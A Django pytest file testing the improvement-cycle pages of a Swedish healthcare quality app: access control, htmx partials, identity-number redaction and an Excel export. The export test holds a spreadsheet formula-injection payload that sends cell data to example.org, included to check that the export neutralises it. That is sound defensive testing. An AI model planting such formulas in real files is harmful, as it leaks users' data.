"""The improvement pages through Django's test client: plain POSTs (no JavaScript) and htmx."""

import re
from datetime import timedelta
from decimal import Decimal

import pytest
from django.template import Context, Template
from django.urls import reverse
from django.utils import timezone

from lagesbild.calc.periods import Period
from lagesbild.core.actor import Actor
from lagesbild.improvement import services
from lagesbild.improvement.models import Action, Analysis, FollowUp

pytestmark = pytest.mark.django_db
NB = "\u00a0"
HX = {"HTTP_HX_REQUEST": "true"}
TODAY = timezone.localdate()


def text(response) -> str:
    return re.sub(r"[ \t\r\n]+", " ", response.content.decode())


def cycle_url(measure, unit="08-F1-KIR", key="2025-Q1", suffix=""):
    return f"/forbattring/{measure.code}/{unit}/{key}/{suffix}"


def test_pages_need_login(client, org, measure):
    for url in (cycle_url(measure), "/forbattring/", "/forbattring/forsenade/", "/forbattring/planer/",
                "/forbattring/luckor/"):
        r = client.get(url)
        assert r.status_code == 302 and r["Location"].startswith("/konto/login/"), url


def test_cycle_page_shows_the_four_steps(client, users, org, measure):
    client.force_login(users.kir_manager)
    page = text(client.get(cycle_url(measure)))
    steps = re.findall(r'<h2 id="[^"]+"><span class="step">(\d)</span> ([^<]+)</h2>', page)
    assert steps == [("1", "Mät"), ("2", "Analysera"), ("3", "Åtgärda"), ("4", "Följ upp")]
    assert "Kirurgkliniken · 2025 kv 1" in page
    assert "Skriv analysen först" in page and "Spara analysen" in page
    assert 'href="/forbattring/test-riskbedomning-24h/08-F1-KIR/2024-Q4/"' in page  # previous period


@pytest.mark.parametrize("key,label", [("2025-03", "mar 2025"), ("2025-Q1", "2025 kv 1"), ("2025-T2", "2025 T2"),
                                       ("2025", "2025"), ("2025-q3", "2025 kv 3")])
def test_period_keys(client, users, org, measure, key, label):
    client.force_login(users.kir_manager)
    r = client.get(cycle_url(measure, key=key))
    assert r.status_code == 200 and f"Kirurgkliniken · {label}" in text(r)


def test_unknown_or_forbidden_targets(client, users, org, measure):
    client.force_login(users.kir_manager)
    assert client.get(cycle_url(measure, key="2025-Q7")).status_code == 404
    assert client.get("/forbattring/finns-inte/08-F1-KIR/2025/").status_code == 404
    assert client.get(cycle_url(measure, unit="ingen-enhet")).status_code == 404
    assert client.get(cycle_url(measure, unit="01")).status_code == 403  # Region Stockholm
    # The other clinic is readable only by those whose scope includes it.
    assert client.get(cycle_url(measure, unit="08-F1-MED")).status_code == 403


def test_full_cycle_without_javascript(client, users, org, measure):
    client.force_login(users.kir_manager)
    r = client.post(cycle_url(measure, suffix="analys/"), {"text": "Riskbedömningar saknas nattetid."})
    assert r.status_code == 302 and r["Location"] == cycle_url(measure) + "#analysera"
    analysis = Analysis.objects.get()
    assert (analysis.org_unit, analysis.period, analysis.created_by) == (org.kir, Period.parse("2025-Q1"), users.kir_manager)

    due = TODAY + timedelta(days=14)
    r = client.post(cycle_url(measure, suffix="atgarder/"), {
        "a-title": "Checklista vid inskrivning", "a-owner_name": "Vårdenhetschef", "a-due_date": due.isoformat(),
        "a-owner": str(users.kir_manager.pk),
    })
    assert r.status_code == 302 and r["Location"].endswith("#atgarda")
    action = Action.objects.get()
    assert (action.title, action.due_date, action.owner, action.status) == (
        "Checklista vid inskrivning", due, users.kir_manager, "planerad")

    r = client.post(reverse("improvement:action_status", args=[action.pk]), {f"s{action.pk}-status": "klar"})
    assert r.status_code == 302
    action.refresh_from_db()
    assert action.status == "klar" and action.completed_on == TODAY

    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-comment": "Bättre.",
        f"f{action.pk}-period_before": "2025-Q1", f"f{action.pk}-value_before": "72,5",
        f"f{action.pk}-period_after": "2025-Q3", f"f{action.pk}-value_after": "85",
    })
    assert r.status_code == 302 and r["Location"].endswith(f"#foljupp-{action.pk}")
    f = FollowUp.objects.get()
    assert (f.value_before, f.value_after, f.effect) == (Decimal("72.5"), Decimal("85"), "ja")

    page = text(client.get(cycle_url(measure)))
    assert "Riskbedömningar saknas nattetid." in page
    assert "Checklista vid inskrivning" in page and "Klar</span>" in page
    row = re.search(r'<tr class="uppfoljning">(.*?)</tr>', page).group(1)
    assert f"2025 kv 1: 72,5{NB}% (inmatat)" in row and f"2025 kv 3: 85,0{NB}% (inmatat)" in row
    assert "+12,5 procentenheter (förbättring)" in row and "<td>Ja</td>" in row


def test_htmx_gets_the_changed_part_and_errors_with_422(client, users, org, measure):
    client.force_login(users.kir_manager)
    r = client.post(cycle_url(measure, suffix="analys/"), {"text": "Analys via htmx."}, **HX)
    assert r.status_code == 200
    body = r.content.decode()
    assert body.lstrip().startswith('<div id="cykel">') and "<html" not in body
    assert "Analys via htmx." in body and "Lägg till åtgärd" in body  # step 3 opened up

    r = client.post(cycle_url(measure, suffix="atgarder/"), {"a-title": "Utan ansvarig", "a-due_date": "2025-05-01"}, **HX)
    assert r.status_code == 422
    body = r.content.decode()
    assert body.lstrip().startswith('<div id="arbete">') and "Det här fältet är obligatoriskt." in body
    assert not Action.objects.exists()

    r = client.post(cycle_url(measure, suffix="atgarder/"), {
        "a-title": "Rond", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat()}, **HX)
    assert r.status_code == 200 and "Rond" in r.content.decode()
    action = Action.objects.get()
    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-value_before": "sjuttio"}, **HX)
    assert r.status_code == 422 and "Skriv ett tal, t.ex. 81,3." in r.content.decode()
    # Without htmx the same error re-renders the whole page.
    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-period_after": "2025-Q9"})
    assert r.status_code == 422 and "<html" in r.content.decode() and "okänd period" in r.content.decode()
    assert not FollowUp.objects.exists()


def test_measured_value_block_and_prefilled_follow_up(client, users, org, measure, fake_measurements):
    fake_measurements.values[(measure.code, "08-F1-KIR", "2025-Q1")] = Decimal("72.5")
    fake_measurements.values[(measure.code, "08-F1-KIR", "2024-Q4")] = Decimal("80.0")
    client.force_login(users.kir_manager)
    page = text(client.get(cycle_url(measure)))
    assert f'<span class="measured">72,5{NB}%</span> 2025 kv 1 · 2024 kv 4: 80,0{NB}% (försämring)' in page
    analysis = services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "Analys.", actor=Actor(users.kir_manager))
    action = services.add_action(analysis, "Åtgärd", "Chef", TODAY, actor=Actor(users.kir_manager))
    page = text(client.get(cycle_url(measure)))
    assert f'placeholder="72,5{NB}% (uppmätt)"' in page
    # Empty values are measured on save.
    client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "delvis", f"f{action.pk}-period_before": "2025-Q1"})
    f = FollowUp.objects.get()
    assert (f.value_before, f.value_before_source) == (Decimal("72.5"), "matt")
    assert f"2025 kv 1: 72,5{NB}% (uppmätt)" in text(client.get(cycle_url(measure)))


def test_reader_sees_but_cannot_change(client, users, org, measure):
    services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "Kirurgens analys.", actor=Actor(users.kir_manager))
    client.force_login(users.reader)
    page = text(client.get(cycle_url(measure)))
    assert "Kirurgens analys." in page and "Spara analysen" not in page and "Lägg till åtgärd" not in page
    assert "Du kan läsa men inte ändra" in page
    assert client.post(cycle_url(measure, suffix="analys/"), {"text": "Ändrat"}).status_code == 403
    assert client.post(cycle_url(measure, suffix="atgarder/"), {
        "a-title": "X", "a-owner_name": "Y", "a-due_date": TODAY.isoformat()}).status_code == 403
    assert Analysis.objects.get().text == "Kirurgens analys." and not Action.objects.exists()


def test_manager_cannot_touch_another_units_analysis(client, users, org, measure):
    analysis = services.record_analysis(measure, org.med, Period.parse("2025-Q1"), "Medicin.", actor=Actor(users.med_manager))
    action = services.add_action(analysis, "Medicinens åtgärd", "Chef", TODAY, actor=Actor(users.med_manager))
    client.force_login(users.kir_manager)
    assert client.post(cycle_url(measure, unit="08-F1-MED", suffix="analys/"), {"text": "Kirurgen skriver"}).status_code == 403
    # Objects outside the subtree are not found at all.
    assert client.post(reverse("improvement:action_status", args=[action.pk]), {f"s{action.pk}-status": "avbruten"}).status_code == 404
    assert client.post(reverse("improvement:follow_up_add", args=[action.pk]), {}).status_code == 404
    assert client.get(reverse("improvement:action_status", args=[action.pk])).status_code == 405
    action.refresh_from_db()
    assert action.status == "planerad" and Analysis.objects.get().text == "Medicin."


def test_overdue_list_is_scoped(client, users, org, measure):
    q1 = Period.parse("2025-Q1")
    kir = services.record_analysis(measure, org.kir, q1, "K", actor=Actor(users.kir_manager))
    med = services.record_analysis(measure, org.med, q1, "M", actor=Actor(users.med_manager))
    services.add_action(kir, "Kirurgens sena", "A", TODAY - timedelta(days=5), actor=Actor(users.kir_manager))
    services.add_action(kir, "Kirurgens klara", "A", TODAY - timedelta(days=5), status="klar", actor=Actor(users.kir_manager))
    services.add_action(med, "Medicinens sena", "B", TODAY - timedelta(days=2), actor=Actor(users.med_manager))
    client.force_login(users.kir_manager)
    page = text(client.get(reverse("improvement:overdue")))
    assert "Kirurgens sena" in page and "Kirurgens klara" not in page and "Medicinens sena" not in page
    assert '<td class="num">5</td>' in page
    client.force_login(users.strategist)
    page = text(client.get(reverse("improvement:overdue"), {"enhet": "08-F1-MED"}))
    assert "Medicinens sena" in page and "Kirurgens sena" not in page
    client.force_login(users.kir_manager)
    assert client.get(reverse("improvement:overdue"), {"enhet": "08-F1-MED"}).status_code == 403


def test_index_lists_recent_analyses_in_scope(client, users, org, measure):
    q1 = Period.parse("2025-Q1")
    services.record_analysis(measure, org.kir, q1, "K", actor=Actor(users.kir_manager))
    services.record_analysis(measure, org.med, q1, "M", actor=Actor(users.med_manager))
    client.force_login(users.med_manager)
    page = text(client.get(reverse("improvement:index")))
    assert "Medicinkliniken" in page and "Kirurgkliniken" not in page


def test_cycle_summary_partial_for_the_dashboard(users, org, measure):
    q1 = Period.parse("2025-Q1")
    tpl = Template("{% load improvement %}{% cycle_summary measure unit period %}")
    html = re.sub(r"[ \t\r\n]+", " ", tpl.render(Context({"measure": measure, "unit": org.kir, "period": q1})))
    assert "Ingen analys för 2025 kv 1." in html and 'href="/forbattring/test-riskbedomning-24h/08-F1-KIR/2025-Q1/"' in html
    analysis = services.record_analysis(measure, org.kir, q1, "Nattens rutiner brister.", actor=Actor(users.kir_manager))
    services.add_action(analysis, "A", "A", TODAY - timedelta(days=1), actor=Actor(users.kir_manager))
    services.add_action(analysis, "B", "B", TODAY + timedelta(days=1), actor=Actor(users.kir_manager))
    html = re.sub(r"[ \t\r\n]+", " ", tpl.render(Context({"measure": measure, "unit": org.kir, "period": q1})))
    assert "Nattens rutiner brister." in html and "2 öppna åtgärder" in html and "1 försenad<" in html


PNR = "19121212-1212"


def test_an_identity_number_typed_into_the_forms_is_removed_with_a_notice(client, users, org, measure):
    from lagesbild.core.personal import REPLACEMENT
    from lagesbild.improvement.services import IDENTITY_NUMBER_NOTICE

    client.force_login(users.kir_manager)
    r = client.post(cycle_url(measure, suffix="analys/"), {"text": f"Patient {PNR} föll."}, follow=True)
    assert r.status_code == 200
    page = text(r)
    assert IDENTITY_NUMBER_NOTICE in page and PNR not in page
    assert Analysis.objects.get().text == f"Patient {REPLACEMENT} föll."
    # The next page view no longer shows the notice; text without a number gets none.
    assert IDENTITY_NUMBER_NOTICE not in text(client.get(cycle_url(measure)))
    r = client.post(cycle_url(measure, suffix="analys/"), {"text": "Ingen patient nämnd, 2025-03-01."}, follow=True)
    assert IDENTITY_NUMBER_NOTICE not in text(r)

    # With htmx the notice is in the changed part of the page.
    r = client.post(cycle_url(measure, suffix="atgarder/"), {
        "a-title": "Ring 121212-1212", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat()}, **HX)
    assert r.status_code == 200 and text(r).count(IDENTITY_NUMBER_NOTICE) == 1
    action = Action.objects.get()
    assert action.title == f"Ring {REPLACEMENT}"
    r = client.post(reverse("improvement:follow_up_add", args=[action.pk]), {
        f"f{action.pk}-date": "2025-10-01", f"f{action.pk}-effect": "ja", f"f{action.pk}-comment": f"Se {PNR}"}, **HX)
    assert r.status_code == 200 and IDENTITY_NUMBER_NOTICE in text(r)
    assert FollowUp.objects.get().comment == f"Se {REPLACEMENT}"


def test_the_action_form_refuses_an_owner_outside_the_scope(client, users, org, measure):
    client.force_login(users.kir_manager)
    client.post(cycle_url(measure, suffix="analys/"), {"text": "Analys."})
    r = client.post(cycle_url(measure, suffix="atgarder/"), {
        "a-title": "Rond", "a-owner_name": "Chef", "a-due_date": TODAY.isoformat(),
        "a-owner": str(users.med_manager.pk)})
    assert r.status_code == 422 and not Action.objects.exists()
    owner_field = re.search(r'<select name="a-owner".*?</div>', r.content.decode(), re.S).group(0)
    assert '<p class="error">' in owner_field
    assert f'value="{users.med_manager.pk}"' not in owner_field


def test_overdue_export_writes_user_text_as_text(client, users, org, measure):
    import io

    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://example.org/?m="&A1,"Öppna")'
    analysis = services.record_analysis(measure, org.kir, Period.parse("2025-Q1"), "A", actor=Actor(users.kir_manager))
    services.add_action(analysis, formula, "+Chef", TODAY - timedelta(days=3), actor=Actor(users.kir_manager))
    client.force_login(users.kir_manager)
    page = text(client.get(reverse("improvement:overdue")))
    r = client.get(reverse("improvement:overdue"), {"format": "xlsx"})
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).active
    header = next(i for i, row in enumerate(ws.iter_rows(values_only=True), start=1) if row[0] == "Åtgärd")
    assert [c.value for c in ws[header]] == ["Åtgärd", "Enhet", "Mått", "Ansvarig", "Klar senast", "Dagar sen",
                                             "Status"]
    cells = ws[header + 1]
    assert [(c.value, c.data_type) for c in (cells[0], cells[3])] == [(formula, "s"), ("+Chef", "s")]
    assert [cells[1].value, cells[5].value] == ["Kirurgkliniken", 3]
    # The page shows the same row.
    assert "Kirurgkliniken" in page and "2025 kv 1" in page and '<td class="num">3</td>' in page
